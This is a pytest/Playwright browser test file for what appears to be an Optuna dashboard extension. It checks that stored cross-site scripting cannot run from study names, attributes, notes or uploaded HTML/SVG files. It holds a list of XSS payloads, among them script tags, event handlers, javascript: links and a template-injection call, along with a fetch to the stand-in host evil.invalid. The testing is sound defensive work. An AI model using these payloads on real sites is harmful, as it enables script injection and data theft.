"""What people can write into a study (names, attributes, notes, files) runs nothing in the browser of who looks."""

import re
from contextlib import suppress
from pathlib import Path

import optuna
import pytest
from optuna.artifacts import FileSystemArtifactStore, upload_artifact
from playwright.sync_api import Browser, Dialog, Route
from playwright.sync_api import Error as DownloadStarts

from dashboard_server import Serve

pytestmark = pytest.mark.browser
EVIL = "http://evil.invalid"
SCRIPT = f"window.top.pwned = 1; alert(1); fetch('{EVIL}/stolen')"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'"><svg onload="{SCRIPT}">',
    f"</script><script>{SCRIPT}</script>",
    f"[link](javascript:{SCRIPT.replace(' ', '')}) ![picture]({EVIL}/tracker.png)",
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
]
FILES = {
    "page.html": f'<!doctype html><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">',
    "drawing.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    "notes.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{SCRIPT}</script></html>',
    "picture.png": f"<script>{SCRIPT}</script>",
}


def hostile_study(served_storage: optuna.storages.BaseStorage, folder: Path) -> list[str]:
    """A study with every payload everywhere; returns the paths of its files."""
    from optuna_dashboard import save_note

    study = optuna.create_study(storage=served_storage, study_name=PAYLOADS[0])
    store = FileSystemArtifactStore(str(folder))
    for number, payload in enumerate(PAYLOADS):
        study.set_user_attr(payload, payload)
        trial = study.ask({f"x{payload}": optuna.distributions.CategoricalDistribution([payload, "b"])})
        trial.set_user_attr(payload, payload)
        trial.set_user_attr("winnow:reason", payload)
        trial.set_user_attr("winnow:config", {payload: payload})
        save_note(trial, payload)
        trial.report(0.5, 1)
        if number % 2:
            study.tell(trial, state=optuna.trial.TrialState.FAIL)
        else:
            study.tell(trial, 0.1 * number)
    save_note(study, "\n\n".join(PAYLOADS))
    paths = []
    for name, content in FILES.items():
        (folder / name).write_text(content)
        artifact = upload_artifact(artifact_store=store, file_path=str(folder / name), study_or_trial=study)
        paths.append(f"/artifacts/{study._study_id}/{artifact}")
    return paths


def test_nothing_of_it_runs(browser: Browser, serve: Serve, sqlite_url: str, tmp_path: Path) -> None:
    served = serve(sqlite_url, local=True)
    files = hostile_study(served.storage, tmp_path / "artifacts")
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    dialogs: list[str] = []
    strange: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)

    def reached(route: Route) -> None:  # what the page's policy refuses does not come so far
        strange.append(route.request.url)
        route.fulfill(status=200)

    context.route(re.compile("evil"), reached)
    seen = 0
    stock = "/dashboard/studies/1"
    pages = ["/winnow/", "/winnow/studies/1", *(f"/winnow/studies/1/trials/{n}" for n in range(len(PAYLOADS)))]
    pages += ["/winnow/api/studies/1", "/winnow/api/studies", "/winnow/audit", "/dashboard", stock]
    pages += [f"{stock}/trials?numbers=0", f"{stock}/note", f"{stock}/artifacts", f"{stock}/analytics"]
    for path in [*pages, *files]:
        with suppress(DownloadStarts):  # a file that is saved, not opened
            page.goto(f"{served.url}{path}", wait_until="load")
            seen += 1
        page.wait_for_timeout(400)  # for what a script of the page would do
        assert page.evaluate("window.pwned") is None, path
        for link in page.locator("a[href^='javascript']").all():
            link.click(force=True)
    assert seen == len(pages) + 1, "of the files, only the picture is opened"
    assert dialogs == []
    assert strange == []
    context.close()


def test_a_file_in_the_dashboards_own_frame_runs_nothing(
    browser: Browser, serve: Serve, sqlite_url: str, tmp_path: Path
) -> None:
    served = serve(sqlite_url, local=True)
    files = hostile_study(served.storage, tmp_path / "artifacts")
    page = browser.new_page()
    page.goto(f"{served.url}/winnow/")
    for path in files:
        for tag in ("iframe", "embed", "object"):
            page.evaluate(
                "([tag, path]) => { const place = document.createElement(tag); place.src = path; place.data = path;"
                " document.body.append(place); }",
                [tag, path],
            )
    page.wait_for_timeout(2000)
    assert page.evaluate("window.pwned") is None
    page.close()
